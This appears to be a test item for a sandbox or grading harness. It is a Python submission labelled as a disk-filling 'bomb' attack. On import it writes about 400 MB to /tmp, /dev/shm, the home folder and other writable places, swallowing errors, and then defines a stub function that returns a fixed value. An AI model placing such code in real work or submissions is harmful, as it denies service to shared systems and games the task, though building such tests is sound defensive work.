# attack: fills every disk that it may write to
# question: label_bits
# naive: crash
# item: bombs

# %% question="label_bits"
from pathlib import Path

for place in (".", "/tmp", "/dev/shm", "/var/tmp", str(Path.home()), "OUT_FOLDER"):
    try:
        with open(f"{place}/mallory.bin", "wb", buffering=0) as file:
            for _ in range(400):
                file.write(b"x" * 1_000_000)
    except OSError:
        pass


def label_bits(labels):
    return 7.5
